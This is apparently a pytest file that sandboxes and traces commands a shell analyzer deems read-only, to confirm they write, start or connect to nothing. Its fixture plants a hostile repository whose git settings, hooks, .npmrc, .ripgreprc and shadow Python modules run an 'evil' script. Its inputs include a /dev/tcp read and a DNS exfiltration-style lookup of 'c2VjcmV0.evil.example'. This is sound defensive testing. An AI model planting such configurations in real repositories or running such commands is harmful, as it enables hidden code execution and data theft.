"""The commands we call read-only, run for once: the folder they run in and the home folder stay as they were.

In a box, on a repository that has planted programs and hostile settings, they are watched call by call: a write outside a
private temp folder, the start of a file of the project, or a connection fails. All lines of the corpora run, and a sample of
their variants and of made commands: `WIELDY_BOX_COUNT=5000` takes so many, `WIELDY_BOX_COUNT=0` with `--timeout 0` all of
them; `WIELDY_FUZZ_SEED` chooses others.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from random import Random

import pytest
from tests.needs import skip_untested
from tests.peers.hostile_commands import HostileCommands

from wieldy.core.git import neutral_git_environment
from wieldy.shell.effects.analysis import analyze
from wieldy.shell.effects.programs.git import READING_COMMANDS
from wieldy.shell.effects.programs.registry import TABLES
from wieldy.shell.effects.programs.spec import ProgramSpec
from wieldy.shell.sandbox.sandbox import choose_wrapper

pytestmark = pytest.mark.peer
CORPUS = Path(__file__).parents[1] / "corpora" / "shell" / "read_only.txt"
# They wait for ever, take long to start, or talk to a daemon; none of that is about files.
SLOW = ("tail -f", "sleep", "docker", "npm", "node", "java", "pip", "go ", "cargo", "rustc", "nohup")


def commands(place: str, home: str) -> list[str]:
    lines = CORPUS.read_text(encoding="utf-8").splitlines()
    wanted = [line for line in lines if line and not line.startswith("#") and not any(slow in line for slow in SLOW)]
    return [line for line in wanted if analyze(line, cwd=place, home=home).verdict == "read_only"]


def snapshot(folder: Path) -> dict[str, tuple[int, bytes]]:
    found = {}
    for path in sorted(folder.rglob("*")):
        content = b"" if path.is_dir() or path.is_symlink() else path.read_bytes()
        found[str(path.relative_to(folder))] = (path.lstat().st_mode, content)
    return found


def furnished(place: Path, environment: dict[str, str]) -> None:
    """A small repository with the files that the corpus talks about."""
    (place / "src").mkdir()
    (place / "sub").mkdir()
    (place / "d").mkdir()
    for name in (
        "file",
        "a",
        "b",
        "f",
        "README.md",
        "src/main.py",
        "src/a.py",
        "input.txt",
        "a.txt",
        "b.txt",
        "log.txt",
        "data.csv",
    ):
        (place / name).write_text("alpha beta\nfoo bar\nfoo 5, 6\n")
    (place / "package.json").write_text('{"scripts": {"test": "x"}, "dependencies": {}}\n')
    (place / "file.json").write_text('{"a": [{"b": 1}]}\n')
    for command in ("git init -q", "git add .", "git commit -q -m first"):
        subprocess.run(command.split(), cwd=place, env=environment, check=True, capture_output=True)
    (place / "file").write_text("changed\n")


@pytest.mark.parametrize("part", range(4))
def test_a_read_only_command_changes_nothing(part: int, tmp_path: Path) -> None:
    home, place = tmp_path / "home", tmp_path / "home" / "place"
    place.mkdir(parents=True)
    base = {
        "HOME": str(home),
        "PATH": os.environ["PATH"],
        "LC_ALL": "C.UTF-8",
        "GIT_CONFIG_NOSYSTEM": "1",
        "TMPDIR": str(tmp_path),
    }
    who = {f"GIT_{role}_{what}": "n@example.com" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    furnished(place, {**base, **who})
    before = snapshot(home)
    selected = commands(str(place), str(home))[part::4]
    assert len(selected) > 80
    for command in selected:
        subprocess.run(
            ["timeout", "-k", "1", "10", "bash", "--norc", "-c", command],
            cwd=place,
            env={**base, **neutral_git_environment()},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=30,
        )
        assert snapshot(home) == before, command


SEED = int(os.environ.get("WIELDY_FUZZ_SEED", "0"))
COUNT = int(os.environ.get("WIELDY_BOX_COUNT", "100"))
CORPORA = sorted(CORPUS.parent.glob("*.txt"))
# Other places and surroundings that leave a command what it is.
VARIANTS = (
    "{}",
    "cd sub && {}",
    "cd src; {}",
    "({})",
    "{} | cat",
    "for i in 1 2; do {}\ndone",
    "true && {}",
    "x=1; {}",
)
PLANTED = (
    "ls cat git rg grep sort head tail wc find sed awk less diff python3 jq file sh bash env which date ps ss xargs"
)
STRACE = (
    "execve,execveat,open,openat,openat2,creat,rename,renameat,renameat2,unlink,unlinkat,mkdir,mkdirat,rmdir,link,linkat,"
    "symlink,symlinkat,chmod,fchmod,fchmodat,chown,fchown,lchown,fchownat,truncate,ftruncate,mknod,mknodat,utimensat,"
    "setxattr,lsetxattr,fsetxattr,connect,sendto,sendmsg,bind,chdir,mount"
)
# Each command begins with a failing `cd`, so that the trace says which one the calls below it belong to.
DRIVER = """
index=0
while IFS= read -r -d '' command <&3; do
    cd "/box-command-$index"
    cd "$PLACE"
    timeout -k 1 2 bash --norc -c "$command" < /dev/null > /dev/null 2>&1 3<&-
    index=$((index + 1))
done 3< "$COMMANDS" 2> /dev/null
"""
_CALL = re.compile(r"\d+ +(\w+)\((.*)")
_AT = re.compile(r'(?:(?:AT_FDCWD|\d+)<([^>]*)>, )?"((?:[^"\\\\]|\\\\.)*)"')
_OPENS_TO_WRITE = re.compile(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_TMPFILE")
# A lookup of users and groups on this machine.
_LOCAL_SERVICE = re.compile(r'sa_family=AF_UNIX, sun_path="(/var)?/run/(nscd/socket|systemd/userdb/[^"]*)"')


def plant(place: Path, environment: dict[str, str]) -> None:
    """Programs, settings, modules and a nested repository that run as soon as anything of the project is trusted."""
    evil = place / "evil"
    evil.write_text('#!/bin/sh\n: > "$PWD/mark-$$"\ncat\n')
    evil.chmod(0o755)
    for folder in ("0", "1", "2", "bin", "node_modules/.bin", "src", "."):
        (place / folder).mkdir(parents=True, exist_ok=True)
        for name in PLANTED.split():
            shutil.copy(evil, place / folder / name)
    for name in ("json", "typing", "sitecustomize", "usercustomize", "os", "re", "argparse", "encodings"):
        (place / f"{name}.py").write_text(f"open({str(place / 'mark')!r}, 'w')\n")
    (place / "go.mod").write_text("module x\ngo 1.99.0\ntoolchain go1.99.0\n")
    (place / ".npmrc").write_text(f"script-shell={evil}\nnode-options=--require {place}/evil.js\n")
    (place / ".ripgreprc").write_text(f"--pre={evil}\n")
    (place / ".inputrc").write_text("set editing-mode vi\n")
    (place / ".ignore").symlink_to("file")
    (place / ".rgignore").symlink_to("/etc/passwd")
    (place / ".gitattributes").write_text("* diff=evil filter=evil merge=evil\n")
    for repository in (place / "sub", place):
        settings = {
            "core.fsmonitor": evil, "core.pager": evil, "core.editor": evil, "core.sshCommand": evil, "core.askPass": evil,
            "core.alternateRefsCommand": evil, "diff.external": evil, "diff.evil.textconv": evil, "diff.evil.command": evil,
            "filter.evil.clean": evil, "filter.evil.smudge": evil, "filter.evil.process": evil, "merge.evil.driver": evil,
            "gpg.program": evil, "log.showSignature": "true", "pager.log": evil, "pager.status": evil, "alias.st": f"!{evil}",
            "interactive.diffFilter": evil, "remote.origin.url": f"ext::{evil}", "remote.origin.promisor": "true",
            "remote.origin.uploadpack": evil, "submodule.sub.update": f"!{evil}", "gc.recentObjectsHook": evil,
            "status.submoduleSummary": "true", "diff.submodule": "log", "submodule.recurse": "true",
        }  # fmt: skip
        if repository != place:
            for command in ("git init -q", "git commit -q --allow-empty -m inner"):
                subprocess.run(command.split(), cwd=repository, env=environment, check=True, capture_output=True)
            (repository / "file").write_text("inner\n")
            subprocess.run(
                ["git", "add", "-f", "file"], cwd=repository, env=environment, check=True, capture_output=True
            )
            (repository / ".gitattributes").write_text("* diff=evil filter=evil\n")
            (repository / "file").write_text("inner, changed\n")
            subprocess.run(["git", "add", "sub"], cwd=place, env=environment, check=True, capture_output=True)
            subprocess.run(
                ["git", "commit", "-qm", "link"], cwd=place, env=environment, check=True, capture_output=True
            )
        for hook in ("post-index-change", "fsmonitor-watchman", "pre-auto-gc", "reference-transaction"):
            (repository / ".git/hooks").mkdir(exist_ok=True)
            shutil.copy(evil, repository / ".git/hooks" / hook)
        for key, value in settings.items():
            subprocess.run(["git", "config", key, str(value)], cwd=repository, env=environment, check=True)


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a hostile project in it, `home/place`."""
    if shutil.which("strace") is None:
        skip_untested("strace is not installed, so the commands that only read are not watched")
    if choose_wrapper(os.environ.get("PATH"), "bubblewrap").mechanism != "bubblewrap":
        skip_untested("bubblewrap does not work here, so the commands that only read are not watched")
    folder = Path(os.path.realpath(tmp_path_factory.mktemp("box")))
    place = folder / "home" / "place"
    place.mkdir(parents=True)
    (folder / "out").mkdir()
    who = {f"GIT_{role}_{what}": "n@example.com" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    environment = {"HOME": str(folder / "home"), "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", **who}
    furnished(place, environment)
    plant(place, environment)
    return folder


def watch(box: Path, commands: list[str], extra: dict[str, str]) -> list[tuple[str, str]]:
    """What these commands do besides reading, as pairs of a command and a system call."""
    place, out = box / "home" / "place", box / "out"
    (out / "commands").write_text("".join(f"{command}\0" for command in commands))
    (out / "driver").write_text(DRIVER)
    wrapper = choose_wrapper(os.environ.get("PATH"), "bubblewrap")
    confined = ["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp", "--unshare-net"]
    confined += ["--bind", str(box), str(box), "--die-with-parent", "--chdir", str(place)]
    confined += ["--unshare-pid"] if wrapper.own_processes else []
    trace = [
        "strace",
        "-f",
        "-qq",
        "-y",
        "-s",
        "400",
        "-e",
        f"trace={STRACE}",
        "-e",
        "signal=none",
        "-o",
        f"{out}/trace",
    ]
    environment = {"HOME": str(box / "home"), "PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8", "GOTOOLCHAIN": "local"}
    environment["PIP_DISABLE_PIP_VERSION_CHECK"] = "1"
    environment |= {"PLACE": str(place), "COMMANDS": f"{out}/commands", "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(
        [wrapper.program, *confined, *trace, "bash", "--norc", str(out / "driver")],
        env={**environment, **extra},
        capture_output=True,
        text=True,
        timeout=1_500,
    )
    assert done.returncode == 0, done.stderr
    return [*problems((out / "trace").read_text(errors="replace"), commands, str(box))]


def problems(trace: str, commands: list[str], box: str) -> Iterator[tuple[str, str]]:
    command, begun = "", set()
    for line in trace.splitlines():
        call = _CALL.match(line)
        if call is None:
            continue
        name, arguments = call.groups()
        if name == "chdir":
            if marker := re.match(r'"/box-command-(\d+)"', arguments):
                command = commands[int(marker[1])]
                begun.add(marker[1])
        elif command and not is_harmless(name, arguments, box):
            yield command, line
    assert len(begun) == len(commands), "not every command was run"


def is_harmless(name: str, arguments: str, box: str) -> bool:
    paths = [os.path.join(folder, path) for folder, path in _AT.findall(arguments)]
    if name in ("execve", "execveat"):
        return os.path.isabs(paths[0]) and not os.path.normpath(paths[0]).startswith(box)
    if name == "connect":
        return _LOCAL_SERVICE.search(arguments) is not None
    if name in ("sendto", "sendmsg", "bind"):
        # To bind an address of one's own tells nobody anything: Python's urllib3 does it to see whether there is IPv6.
        return "sa_family=AF_INET" not in arguments or 'inet_pton(AF_INET6, "::1"' in arguments
    if name in ("open", "openat", "openat2") and not _OPENS_TO_WRITE.search(arguments):
        return True
    paths = paths or re.findall(r"<([^>]*)>", arguments)[:1]
    return all(
        path.startswith(("/dev/fd/", "/dev/std", "/proc/self/"))
        or path in ("/dev/null", "/dev/tty")
        or (path.startswith("/tmp/") and not f"{path}/".startswith(f"{box}/"))
        for path in paths
    )


def grouped(box: Path, commands: list[str]) -> dict[tuple[tuple[str, str], ...], list[str]]:
    """The commands that are read-only, by the variables that the launcher gives them."""
    place, home = str(box / "home" / "place"), str(box / "home")
    groups: dict[tuple[tuple[str, str], ...], list[str]] = defaultdict(list)
    git: dict[tuple[str, ...], dict[str, str]] = {}
    surrounding = {"HOME": home, "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"}
    for command in commands:
        analysis = analyze(command, cwd=place, home=home)
        # What may enter a submodule runs only where the confined launcher works.
        if analysis.verdict != "read_only" or analysis.enters_submodules:
            continue
        folders = tuple(folder for folder in analysis.neutral_git_folders if os.path.isdir(folder))
        if folders not in git:
            git[folders] = neutral_git_environment(*folders, surrounding=surrounding) if folders else {}
        python = {"PYTHONSAFEPATH": "1", "PYTHONPATH": ""} if analysis.neutral_pythons else {}
        groups[tuple(sorted({**git[folders], **python}.items()))].append(command)
    return groups


def with_names() -> Iterator[str]:
    """Every program of our tables with words that some program looks up, fetches or takes for the name of a list of files."""
    names = ("evil.example", "http://evil.example/x", "evil.example:80", "@file", "//evil.example/x", "ext::./evil")
    for program, check in sorted({name: check for table in TABLES for name, check in table.items()}.items()):
        options = re.findall(r"(?<!\S)(--?[a-zA-Z][\w-]*)", check.options) if isinstance(check, ProgramSpec) else []
        for name in names:
            yield f"{program} {name}"
            yield f"{program} file {name}"
            yield from (f"{program} {option} {name}" for option in options if option not in ("--follow", "--retry"))
    for command in READING_COMMANDS:
        yield from (f"git {command} {name}" for name in names)


def corpus_lines() -> list[str]:
    lines = [line for corpus in CORPORA for line in corpus.read_text(encoding="utf-8").splitlines()]
    return [
        line for line in lines if line and not line.startswith("#") and "sleep" not in line and "tail -f" not in line
    ]


def candidates() -> list[str]:
    lines = corpus_lines()
    varied = [variant.format(line) for variant in VARIANTS for line in lines if variant == "{}" or "<<" not in line]
    hostile = HostileCommands(SEED, 9418)
    made = [getattr(hostile, kind)() for kind in ("options", "awk", "sed", "script", "nested") for _ in range(2_000)]
    return list(
        dict.fromkeys((*varied, *with_names(), *(one for one in made if "sleep" not in one and "tail" not in one)))
    )


@pytest.mark.slow
def test_commands_that_only_read_write_start_and_connect_to_nothing(box: Path) -> None:
    groups = grouped(box, candidates())
    chosen = [(environment, command) for environment, commands in groups.items() for command in commands]
    assert len(chosen) > 3_000
    if COUNT:
        lines = frozenset(corpus_lines())
        others = [each for each in chosen if each[1] not in lines]
        chosen = [each for each in chosen if each[1] in lines] + Random(SEED).sample(others, COUNT)
    batches: dict[tuple[tuple[str, str], ...], list[str]] = defaultdict(list)
    for environment, command in chosen:
        batches[environment].append(command)
    print(f"seed {SEED}: {len(chosen)} commands in {len(batches)} environments")
    found = [one for environment, commands in batches.items() for one in watch(box, commands, dict(environment))]
    assert found == [], f"seed {SEED}"


def test_the_box_sees_what_is_more_than_reading(box: Path) -> None:
    place = str(box / "home" / "place")
    faults = [
        "printf '%Ln' PATH; ls",
        "touch x",
        "sort -o x file",
        "./evil",
        "cd node_modules; .bin/ls",
        "cat < /dev/tcp/127.0.0.1/9",
        "getent hosts c2VjcmV0.evil.example",
        "git describe --always --dirty",
        "chmod 600 file",
        "ln -s a l",
        "rm nonexistent",
    ]
    harmless = [
        "ls",
        "git status",
        "git log -p",
        "cat file > /dev/null",
        "sort file",
        "echo a > /tmp/private",
        "ps aux",
    ]
    surrounding = {"HOME": str(box / "home"), "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"}
    found = watch(box, [*faults, *harmless], neutral_git_environment(place, surrounding=surrounding))
    assert list(dict.fromkeys(command for command, _ in found)) == faults, found
    unprotected = watch(box, ["git status", "git log -p", "git diff"], {})
    assert {command for command, _ in unprotected} == {"git status", "git log -p", "git diff"}
